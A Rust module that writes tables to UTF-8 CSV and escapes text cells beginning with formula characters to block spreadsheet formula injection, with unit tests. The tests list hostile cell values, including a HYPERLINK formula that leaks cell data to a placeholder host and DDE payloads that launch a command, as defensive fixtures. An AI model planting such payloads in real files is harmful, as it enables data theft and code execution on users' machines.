//! Tables to CSV: UTF-8 with a byte-order mark (so Excel opens Vietnamese correctly), comma
//! separated, header row first.
//!
//! A CSV file is opened by a spreadsheet, which reads a cell starting with `=`, `+`, `-` or `@`
//! as a formula: a member named `=HYPERLINK(…)` in an imported file would become a live link (or
//! worse) in the office's Excel. As OWASP recommends, every text cell that a spreadsheet would
//! take for a formula (leading `=`, `+`, `-`, `@`, tab, CR, LF) is written with a leading `'`
//! (`vietnamese::clean::guard_formula`), with no exception for texts that look like numbers:
//! phones are stored as `0912…` (never `+84…`), and a text that looks like a negative number is
//! still text, which Excel shows as text. Numbers (`Value::Number`) are written as numbers and
//! are never guarded. Importers take the `'` off again with
//! `vietnamese::clean::unguard_formula`, so an exported file imports back unchanged.

use super::table::{Listing, Value};
use crate::error::{Error, Result};
use crate::vietnamese::clean::guard_formula;

/// The CSV bytes of a table.
pub fn to_bytes(table: &Listing) -> Result<Vec<u8>> {
    let mut out = Vec::with_capacity(64 + table.rows.len() * 96);
    out.extend_from_slice(b"\xEF\xBB\xBF");
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(out);
    let fail = |e: csv::Error| Error::internal(format!("tạo tệp CSV: {e}"));
    w.write_record(table.columns.iter().map(|c| c.label))
        .map_err(fail)?;
    for row in &table.rows {
        w.write_record(row.iter().map(field)).map_err(fail)?;
    }
    w.into_inner()
        .map_err(|e| Error::internal(format!("tạo tệp CSV: {e}")))
}

/// A cell as written: text guarded against formulas, numbers as they are.
fn field(v: &Value) -> String {
    match v {
        Value::Text(s) => guard_formula(s).into_owned(),
        _ => v.as_field(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::export::table::Column;
    use crate::vietnamese::clean::unguard_formula;

    fn table(rows: Vec<Vec<Value>>) -> Listing {
        Listing {
            title: "x".into(),
            columns: vec![
                Column::new("Họ và tên"),
                Column::new("Chức vụ, đơn vị công tác"),
            ],
            rows,
        }
    }

    /// The cells of CSV bytes as a spreadsheet's CSV reader sees them (header row first).
    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
        let body = bytes
            .strip_prefix(b"\xEF\xBB\xBF")
            .expect("byte-order mark");
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(body)
            .records()
            .map(|r| r.expect("record").iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn csv_has_bom_header_and_quoted_commas() {
        let t = table(vec![vec![
            Value::text("Lê Văn A"),
            Value::text("Bí thư, Chi đoàn"),
        ]]);
        let b = to_bytes(&t).expect("csv");
        assert!(b.starts_with(b"\xEF\xBB\xBF"));
        let s = String::from_utf8(b[3..].to_vec()).expect("utf-8");
        assert_eq!(
            s,
            "Họ và tên,\"Chức vụ, đơn vị công tác\"\r\nLê Văn A,\"Bí thư, Chi đoàn\"\r\n"
        );
    }

    #[test]
    fn text_a_spreadsheet_would_run_is_guarded_and_reads_back() {
        let hostile = [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào đây\")",
            "=cmd|' /C calc'!A0",
            "+84912345678",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r\n=1+1",
            "'=1+1",
            "-5",
        ];
        let safe = [
            "Nguyễn Văn An",
            "'Ali",
            "a=b",
            "0912345678",
            "Tổ trưởng - thôn 3",
        ];
        let rows: Vec<Vec<Value>> = hostile
            .iter()
            .chain(&safe)
            .map(|s| vec![Value::text(*s), Value::Number(-5.0)])
            .collect();
        let bytes = to_bytes(&table(rows)).expect("csv");
        let cells = read_back(&bytes);
        assert_eq!(cells.len(), 1 + hostile.len() + safe.len());
        for (row, original) in cells[1..].iter().zip(hostile.iter().chain(&safe)) {
            let written = &row[0];
            if hostile.contains(original) {
                assert_eq!(written, &format!("'{original}"));
            } else {
                assert_eq!(written, original);
            }
            // No cell a spreadsheet reads starts a formula…
            assert!(!written.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']));
            // …and the importer's helper gives the text back exactly.
            assert_eq!(unguard_formula(written), *original);
            // Numbers stay numbers, negative ones too.
            assert_eq!(row[1], "-5");
        }
    }
}
